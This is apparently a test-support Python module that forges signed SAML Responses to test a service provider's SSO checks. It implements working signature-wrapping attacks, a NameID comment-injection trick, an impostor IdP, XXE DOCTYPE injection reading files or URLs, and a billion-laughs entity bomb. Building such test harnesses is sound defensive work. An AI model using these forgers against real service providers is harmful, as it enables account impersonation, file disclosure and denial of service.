"""Attacks on signed SAML Responses, for testing a service provider's defences.

Each mutator takes the XML text of a Response made by
:class:`testproject.local_idp.saml_idp.SigningIdp` and returns the XML text of a forged
one. They edit with ``xml.dom.minidom`` (or plain string operations where a parser
would get in the way), which keeps every namespace prefix and declaration where it
was: the parts an attack leaves alone canonicalise to the same bytes as before, so a
signature over them still verifies, and a service provider that accepts
the result has a real hole rather than a lucky pass.

``bent_idp`` and ``idp_signing_with`` are the genuine IdP itself, changed: its Responses
lack a part the Web SSO profile requires (an ``Edit`` applied before signing), or are
signed with other algorithms (SHA-1). Their signatures are the IdP's own and verify, so
only the service provider's own rules can refuse them.
"""

from __future__ import annotations

import re
import secrets
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.dom import minidom
from xml.dom.minidom import Document, Element

from saml2 import class_name, saml, samlp
from saml2.sigver import get_xmlsec_binary, pre_signature_part, signed_instance_factory

from testproject.local_idp.keys import KeyPair
from testproject.local_idp.saml_idp import SigningIdp

__all__ = [
    "DS_NS",
    "SAMLP_NS",
    "SAML_NS",
    "Edit",
    "assertion_ids",
    "bent_idp",
    "drop_audience_restriction",
    "drop_bearer_not_on_or_after",
    "drop_conditions_not_on_or_after",
    "drop_destination",
    "error_response",
    "idp_signing_with",
    "impostor_idp",
    "inject_comment_in_name_id",
    "name_id_text",
    "response_id",
    "signature_algorithms",
    "signature_reference_uris",
    "strip_signatures",
    "tamper_attribute",
    "tamper_name_id",
    "with_doctype_xxe",
    "with_entity_expansion",
    "wrap_reference_to_other_id",
    "wrap_sibling_assertion",
    "wrap_signature_extensions",
    "xmlsec_verifies",
]

SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"

_XML_DECL = re.compile(r"^\s*<\?xml[^>]*\?>\s*")
_NAME_ID = re.compile(r"(<(?:[\w.-]+:)?NameID\b[^>]*>)([^<]*)(</(?:[\w.-]+:)?NameID>)")


# -- reading ----------------------------------------------------------------------------


def _parse(xml: str) -> Document:
    return minidom.parseString(xml.encode("utf-8"))


def _dump(doc: Document) -> str:
    return doc.toxml()


def _children(parent: Element, ns: str, local: str) -> Iterator[Element]:
    for node in parent.childNodes:
        if (
            node.nodeType == node.ELEMENT_NODE
            and node.namespaceURI == ns
            and node.localName == local
        ):
            yield node


def _child(parent: Element, ns: str, local: str) -> Element | None:
    return next(_children(parent, ns, local), None)


def _response(doc: Document) -> Element:
    root = doc.documentElement
    if root.namespaceURI != SAMLP_NS or root.localName != "Response":
        raise ValueError(f"not a samlp:Response: {root.tagName}")
    return root


def _the_assertion(doc: Document) -> Element:
    found = list(_children(_response(doc), SAML_NS, "Assertion"))
    if len(found) != 1:
        raise ValueError(f"expected one Assertion directly in the Response, found {len(found)}")
    return found[0]


def _name_id(assertion: Element) -> Element:
    subject = _child(assertion, SAML_NS, "Subject")
    name_id = _child(subject, SAML_NS, "NameID") if subject is not None else None
    if name_id is None:
        raise ValueError("the Assertion has no Subject/NameID")
    return name_id


def _set_text(element: Element, text: str) -> None:
    for node in list(element.childNodes):
        element.removeChild(node)
    element.appendChild(element.ownerDocument.createTextNode(text))


def _text(element: Element) -> str:
    return "".join(n.data for n in element.childNodes if n.nodeType == n.TEXT_NODE)


def assertion_ids(xml: str) -> list[str]:
    """The IDs of every Assertion in the document, in document order (wrapped ones too)."""
    return [a.getAttribute("ID") for a in _parse(xml).getElementsByTagNameNS(SAML_NS, "Assertion")]


def name_id_text(xml: str) -> str:
    """The NameID of the Response's (single, direct) Assertion."""
    return _text(_name_id(_the_assertion(_parse(xml))))


def signature_reference_uris(xml: str) -> dict[str, str]:
    """Maps the local name and ID of each signed element to its Reference URI, e.g.
    ``{"Response#id-1": "#id-1", "Assertion#id-2": "#id-2"}``."""
    result = {}
    for signature in _parse(xml).getElementsByTagNameNS(DS_NS, "Signature"):
        parent = signature.parentNode
        refs = signature.getElementsByTagNameNS(DS_NS, "Reference")
        key = f"{parent.localName}#{parent.getAttribute('ID')}"
        result[key] = refs[0].getAttribute("URI") if refs else ""
    return result


def signature_algorithms(xml: str) -> set[tuple[str, str]]:
    """(SignatureMethod, DigestMethod) of every Signature in the document."""
    found = set()
    for signature in _parse(xml).getElementsByTagNameNS(DS_NS, "Signature"):
        method = signature.getElementsByTagNameNS(DS_NS, "SignatureMethod")[0]
        for digest in signature.getElementsByTagNameNS(DS_NS, "DigestMethod"):
            found.add((method.getAttribute("Algorithm"), digest.getAttribute("Algorithm")))
    return found


def xmlsec_verifies(xml: str, cert_path: Path, *, node_id: str) -> bool:
    """Whether ``xmlsec1`` finds the first Signature inside the element with ID
    ``node_id`` cryptographically valid with the certificate at ``cert_path``.

    Only the signature maths, no SAML rules: it shows that a forged document still
    carries a signature that verifies, so a service provider that rejects it does so
    on structure. IDs are registered on Responses and Assertions alike (pysaml2 only
    registers the kind it is checking), so a Reference may point from one to the other.
    """
    with tempfile.NamedTemporaryFile(suffix=".xml") as handle:
        handle.write(xml.encode("utf-8"))
        handle.flush()
        command = [
            get_xmlsec_binary(),
            "--verify",
            "--enabled-reference-uris",
            "same-doc",
            "--enabled-key-data",
            "raw-x509-cert",
            "--pubkey-cert-pem",
            str(cert_path),
            "--id-attr:ID",
            f"{SAMLP_NS}:Response",
            "--id-attr:ID",
            f"{SAML_NS}:Assertion",
            "--node-id",
            node_id,
            handle.name,
        ]
        done = subprocess.run(command, capture_output=True, timeout=60, check=False)
    return done.returncode == 0


def response_id(xml: str) -> str:
    """The ID of the document's samlp:Response."""
    return _response(_parse(xml)).getAttribute("ID")


# -- forgers ------------------------------------------------------------------------------


def _evil_twin(assertion: Element, evil_name_id: str) -> Element:
    """An unsigned copy of ``assertion`` under a fresh ID, about ``evil_name_id``."""
    evil = assertion.cloneNode(deep=True)
    for signature in list(_children(evil, DS_NS, "Signature")):
        evil.removeChild(signature)
    evil.setAttribute("ID", f"id-evil-{secrets.token_hex(8)}")
    _set_text(_name_id(evil), evil_name_id)
    return evil


def tamper_name_id(xml: str, new: str) -> str:
    """Replace the NameID's text, leaving every signature as it was (so none verifies)."""
    doc = _parse(xml)
    _set_text(_name_id(_the_assertion(doc)), new)
    return _dump(doc)


def tamper_attribute(xml: str, name: str, new_value: str) -> str:
    """Replace the first value of the attribute whose Name or FriendlyName is ``name``,
    leaving every signature as it was."""
    doc = _parse(xml)
    for attribute in _the_assertion(doc).getElementsByTagNameNS(SAML_NS, "Attribute"):
        if name in (attribute.getAttribute("Name"), attribute.getAttribute("FriendlyName")):
            values = list(_children(attribute, SAML_NS, "AttributeValue"))
            if not values:
                raise ValueError(f"attribute {name!r} has no AttributeValue")
            _set_text(values[0], new_value)
            return _dump(doc)
    raise KeyError(name)


def strip_signatures(xml: str) -> str:
    """Remove every ds:Signature (the Response's and the Assertion's): a wholly unsigned
    Response that is otherwise the genuine one."""
    doc = _parse(xml)
    for signature in list(doc.getElementsByTagNameNS(DS_NS, "Signature")):
        signature.parentNode.removeChild(signature)
    return _dump(doc)


#: Changes a Response and its Assertion before the IdP signs them.
Edit = Callable[[samlp.Response, saml.Assertion], None]


class _BentIdp(SigningIdp):
    """The genuine IdP (same key, entity id and service providers) with other signing
    algorithms, or with an edit applied to every Response just before it is signed, so
    that what the edit removed is missing under a valid signature."""

    def __init__(
        self,
        genuine: SigningIdp,
        *,
        edit: Edit | None = None,
        signing_algorithm: str | None = None,
        digest_algorithm: str | None = None,
    ) -> None:
        self._edit = edit
        self._algorithms = (signing_algorithm, digest_algorithm)
        super().__init__(
            entity_id=genuine.entity_id,
            sso_url=genuine.sso_url,
            keypair=genuine.keypair,
            service_providers=genuine.service_providers,
        )

    def _config_dict(self) -> dict[str, Any]:
        config = super()._config_dict()
        signing, digest = self._algorithms
        if signing is not None:
            config["service"]["idp"]["signing_algorithm"] = signing
        if digest is not None:
            config["service"]["idp"]["digest_algorithm"] = digest
        return config

    def _sign(
        self,
        response: samlp.Response,
        assertion: saml.Assertion,
        *,
        sign_response: bool,
        sign_assertion: bool,
    ) -> str:
        if self._edit is not None:
            self._edit(response, assertion)
        return super()._sign(
            response, assertion, sign_response=sign_response, sign_assertion=sign_assertion
        )


def bent_idp(genuine: SigningIdp, edit: Edit) -> SigningIdp:
    """``genuine`` whose Responses get ``edit`` before they are signed: the change is
    covered by the signatures, so a refusal comes from the check of what was changed."""
    return _BentIdp(genuine, edit=edit)


def idp_signing_with(
    genuine: SigningIdp, *, signing_algorithm: str, digest_algorithm: str
) -> SigningIdp:
    """``genuine`` signing with the given SignatureMethod and DigestMethod URIs (say
    RSA-SHA1 and SHA-1, as legacy IdPs do)."""
    return _BentIdp(genuine, signing_algorithm=signing_algorithm, digest_algorithm=digest_algorithm)


def drop_destination(response: samlp.Response, assertion: saml.Assertion) -> None:
    """An Edit: the Response names no Destination."""
    response.destination = None


def drop_audience_restriction(response: samlp.Response, assertion: saml.Assertion) -> None:
    """An Edit: the Conditions keep their time window but restrict no audience."""
    assertion.conditions.audience_restriction = []


def drop_bearer_not_on_or_after(response: samlp.Response, assertion: saml.Assertion) -> None:
    """An Edit: the bearer SubjectConfirmationData has no NotOnOrAfter (the Conditions
    keep theirs)."""
    for confirmation in assertion.subject.subject_confirmation:
        confirmation.subject_confirmation_data.not_on_or_after = None


def drop_conditions_not_on_or_after(response: samlp.Response, assertion: saml.Assertion) -> None:
    """An Edit: the Conditions have no NotOnOrAfter (it is optional there); the bearer
    SubjectConfirmationData keeps its own."""
    assertion.conditions.not_on_or_after = None


def error_response(
    idp: SigningIdp,
    *,
    acs_url: str,
    in_response_to: str | None = None,
    status: str = samlp.STATUS_RESPONDER,
    second_status: str | None = samlp.STATUS_AUTHN_FAILED,
    message: str | None = None,
    sign: bool = True,
) -> str:
    """The XML text of ``idp``'s Response refusing a sign-in: top-level StatusCode
    ``status``, nested ``second_status`` (none when None), a StatusMessage when given,
    and no Assertion. With ``sign`` the Response carries the IdP's signature, made the
    way it signs a successful one (its own algorithms, by xmlsec1)."""
    server = idp._server
    response = server.create_error_response(
        in_response_to, acs_url, (second_status or status, message), sign=False
    )
    response.status = samlp.Status(
        status_code=samlp.StatusCode(
            value=status,
            status_code=samlp.StatusCode(value=second_status) if second_status else None,
        ),
        status_message=samlp.StatusMessage(text=message) if message else None,
    )
    if not sign:
        return _as_text(response.to_string())
    response.signature = pre_signature_part(
        response.id,
        server.sec.my_cert,
        1,
        sign_alg=server.signing_algorithm,
        digest_alg=server.digest_algorithm,
    )
    return _as_text(
        signed_instance_factory(response, server.sec, [(class_name(response), response.id)])
    )


def _as_text(value: str | bytes) -> str:
    return value.decode("utf-8") if isinstance(value, bytes) else value


def impostor_idp(genuine: SigningIdp, keypair: KeyPair) -> SigningIdp:
    """An IdP with the genuine one's entity id, SSO URL and service providers but the
    attacker's key: its Responses are correctly signed, by a key not in the metadata."""
    return SigningIdp(
        entity_id=genuine.entity_id,
        sso_url=genuine.sso_url,
        keypair=keypair,
        service_providers=genuine.service_providers,
    )


def wrap_signature_extensions(xml: str, evil_name_id: str) -> str:
    """Signature wrapping: the genuine signed Assertion moves into a samlp:Extensions
    (where a verifier that looks its Reference up by ID still finds it, intact), and an
    unsigned copy about ``evil_name_id`` takes its place. Aimed at a service provider
    that checks "some signature verifies" and then reads "the" Assertion. A Response
    signature, if there was one, stays but no longer matches."""
    doc = _parse(xml)
    response = _response(doc)
    assertion = _the_assertion(doc)
    evil = _evil_twin(assertion, evil_name_id)
    response.replaceChild(evil, assertion)

    extensions = doc.createElementNS(SAMLP_NS, _qname(response, "Extensions"))
    extensions.appendChild(assertion)
    # Schema order: Issuer, Signature, Extensions, Status, then assertions.
    anchor = _child(response, SAML_NS, "Issuer")
    signature = _child(response, DS_NS, "Signature")
    after = signature or anchor
    response.insertBefore(
        extensions, after.nextSibling if after is not None else response.firstChild
    )
    return _dump(doc)


def wrap_sibling_assertion(xml: str, evil_name_id: str) -> str:
    """An unsigned Assertion about ``evil_name_id`` inserted before the genuine signed
    one: aimed at a service provider that verifies one assertion and reads another."""
    doc = _parse(xml)
    assertion = _the_assertion(doc)
    _response(doc).insertBefore(_evil_twin(assertion, evil_name_id), assertion)
    return _dump(doc)


def wrap_reference_to_other_id(xml: str) -> str:
    """The Assertion's Signature moves up to the Response (replacing the Response's own).
    It still verifies, covering exactly what it covered before, but its Reference URI
    names the Assertion's ID, not the Response it now sits in: aimed at a service
    provider that checks "the Response carries a valid signature" without checking what
    that signature covers."""
    doc = _parse(xml)
    response = _response(doc)
    assertion = _the_assertion(doc)
    moved = _child(assertion, DS_NS, "Signature")
    if moved is None:
        raise ValueError("the Assertion is not signed: nothing to move")
    assertion.removeChild(moved)
    own = _child(response, DS_NS, "Signature")
    if own is not None:
        response.replaceChild(moved, own)
    else:
        issuer = _child(response, SAML_NS, "Issuer")
        response.insertBefore(
            moved, issuer.nextSibling if issuer is not None else response.firstChild
        )
    return _dump(doc)


def _qname(context: Element, local: str) -> str:
    return f"{context.prefix}:{local}" if context.prefix else local


# -- parser attacks (string operations: the point is text a parser must refuse) ------------


def _root_qname(xml: str) -> str:
    match = re.search(r"<([\w.-]+:)?Response\b", _XML_DECL.sub("", xml, count=1))
    if match is None:
        raise ValueError("no Response start tag")
    return f"{match.group(1) or ''}Response"


def _with_dtd(xml: str, internal_subset: str, name_id_content: str | None) -> str:
    body = _XML_DECL.sub("", xml, count=1)
    if name_id_content is not None:
        body, count = _NAME_ID.subn(
            lambda m: f"{m.group(1)}{name_id_content}{m.group(3)}", body, count=1
        )
        if count != 1:
            raise ValueError("no NameID to put the entity reference in")
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"<!DOCTYPE {_root_qname(xml)} [\n{internal_subset}\n]>\n{body}"
    )


def with_doctype_xxe(xml: str, url_or_file: str | Path, *, reference: bool = True) -> str:
    """A DOCTYPE declaring an external entity ``xxe`` (a URL, or a local file given as a
    path) and, with ``reference``, the NameID's text replaced by ``&xxe;``: a parser that
    resolves external entities reads the file or fetches the URL."""
    target = str(url_or_file)
    if isinstance(url_or_file, Path) or "://" not in target:
        target = Path(target).resolve().as_uri()
    subset = f'  <!ENTITY xxe SYSTEM "{target}">'
    return _with_dtd(xml, subset, "&xxe;" if reference else None)


def with_entity_expansion(xml: str, *, levels: int = 10, fanout: int = 10) -> str:
    """Billion laughs: nested internal entities whose expansion is ``fanout**levels``
    copies of "lol" (10**10 by default), referenced from the NameID. Never hand the
    result to a parser that expands entities without a limit."""
    lines = ['  <!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        lines.append(f'  <!ENTITY lol{level} "{f"&lol{level - 1};" * fanout}">')
    return _with_dtd(xml, "\n".join(lines), f"&lol{levels};")


def inject_comment_in_name_id(xml: str, after: str = "alice@example.test") -> str:
    """Insert ``<!---->`` into the NameID right after ``after``. For a Response made with
    NameID ``alice@example.test.evil.test`` the signature stays valid (exclusive C14N
    without comments drops comments), and a consumer that reads only the text node
    before the comment sees ``alice@example.test``."""

    def insert(match: re.Match[str]) -> str:
        text = match.group(2)
        if not text.startswith(after) or text == after:
            raise ValueError(f"NameID {text!r} does not extend {after!r}")
        return f"{match.group(1)}{after}<!---->{text[len(after) :]}{match.group(3)}"

    result, count = _NAME_ID.subn(insert, xml, count=1)
    if count != 1:
        raise ValueError("no NameID found")
    return result
